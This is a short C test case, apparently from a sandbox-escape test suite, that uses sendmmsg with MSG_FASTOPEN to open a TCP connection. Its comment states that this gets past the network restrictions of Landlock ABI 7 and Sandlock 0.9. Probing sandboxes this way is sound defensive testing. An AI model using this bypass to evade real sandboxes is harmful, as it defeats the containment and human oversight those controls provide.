#include "attack.h"
// TCP fast open by sendmmsg. Landlock ABI 7 and Sandlock 0.9 leak.
ATTACK(.judge = "hit:tcp4") {
  struct sockaddr_in a = in4(num("tcp4"));
  struct iovec v = {"x", 1};
  struct mmsghdr m = {.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &v, .msg_iovlen = 1}};
  if (sendmmsg(socket(AF_INET, SOCK_STREAM, 0), &m, 1, MSG_FASTOPEN) < 0) note("sendmmsg");
}
